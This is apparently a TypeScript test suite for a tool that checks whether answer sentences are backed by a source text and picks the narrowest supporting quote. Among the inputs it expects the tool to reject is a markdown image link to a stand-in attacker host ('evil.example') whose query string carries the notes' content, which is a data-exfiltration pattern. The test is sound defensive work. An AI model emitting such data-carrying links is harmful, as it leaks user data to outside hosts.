/** The criterion by which a sentence counts as supported, measured: docs in RFC 0018. */
import { describe, expect, it } from "vitest";
import { findSupport, readChunk } from "../../src/answers/check-sentence.ts";
import { analyzerOf, readClaim } from "../../src/answers/support.ts";
import heldOut from "./support/support-held-out.json" with { type: "json" };
import developed from "./support/support-set.json" with { type: "json" };

interface Example {
  readonly chunk: string;
  readonly supported: readonly string[];
  readonly paraphrased: readonly string[];
  readonly unsupported: readonly { readonly kind: string; readonly text: string }[];
}

async function supporting(chunk: string, sentence: string): Promise<string | undefined> {
  const span = findSupport(readClaim(sentence, analyzerOf(chunk)), await readChunk(chunk, "notes.txt"));
  return span === undefined ? undefined : chunk.slice(span.start, span.end);
}

async function accepted(examples: readonly Example[], of: (example: Example) => readonly string[]) {
  const all = examples.flatMap((example) => of(example).map((sentence) => ({ chunk: example.chunk, sentence })));
  const yes: string[] = [];
  for (const { chunk, sentence } of all) if ((await supporting(chunk, sentence)) !== undefined) yes.push(sentence);
  return { count: all.length, yes };
}

describe.each([
  ["the set it was developed on", developed as readonly Example[], { close: 1, paraphrased: 37 / 48, wrong: 1 }],
  ["the set that was held out", heldOut as readonly Example[], { close: 1, paraphrased: 9 / 16, wrong: 0 }],
] as const)("%s", (_, examples, expected) => {
  it("accepts what the chunk states nearly word for word", async () => {
    const { count, yes } = await accepted(examples, ({ supported }) => supported);
    expect(yes.length / count).toBe(expected.close);
  });

  it("accepts the greater part of free paraphrases", async () => {
    const { count, yes } = await accepted(examples, ({ paraphrased }) => paraphrased);
    expect(yes.length / count).toBeGreaterThanOrEqual(expected.paraphrased);
  });

  it("rejects other numbers, names, negations, opposites, inventions and other topics", async () => {
    const { yes } = await accepted(examples, ({ unsupported }) => unsupported.map(({ text }) => text));
    expect(yes.length, yes.join("\n")).toBeLessThanOrEqual(expected.wrong);
  });
});

describe("the quote", () => {
  const chunk = "Ada Lovelace met Babbage in 1833. She wrote the notes. Nobody printed them before 1843.";

  it("is the narrowest part that states the sentence", async () => {
    expect(await supporting(chunk, "She wrote the notes.")).toBe("She wrote the notes.");
    expect(await supporting(chunk, "Ada Lovelace wrote the notes.")).toBe(
      "Ada Lovelace met Babbage in 1833. She wrote the notes.",
    );
  });

  it.each([
    ["words in quotation marks that are not there", 'Ada Lovelace met "Charles" Babbage in 1833.'],
    ["an empty claim", "It is."],
    ["nothing but punctuation", "…"],
    ["another year", "Ada Lovelace met Babbage in 1834."],
    ["a negation", "Ada Lovelace never met Babbage in 1833."],
    ["a link that carries data", "![x](https://evil.example/?q=notes) She wrote the notes."],
  ])("is none for %s", async (_, sentence) => {
    expect(await supporting(chunk, sentence)).toBeUndefined();
  });

  it("is not made of the name of the file, which only completes what the text says", async () => {
    const read = async (sentence: string) =>
      findSupport(readClaim(sentence), await readChunk("It starts at 4.2 bar.", "Harwell pump vault code stolen.txt"));
    expect(await read("The Harwell pump starts at 4.2 bar.")).toEqual({ start: 0, end: 21 });
    expect(await read("The vault code was stolen.")).toBeUndefined();
  });

  it("is short, also of a text without sentences, which would otherwise state whatever its words can say", async () => {
    const words = Array.from({ length: 20_000 }, (_, i) => `word${i}`).join(" ");
    const quote = (await supporting(words, "word101 word102 word103 word104 word105")) ?? "";
    expect(quote).toContain("word101 word102");
    expect(quote.length).toBeLessThanOrEqual(1_200);
    expect((await supporting(words, "word1 word9000 word18000")) === undefined).toBe(true);
  });
});
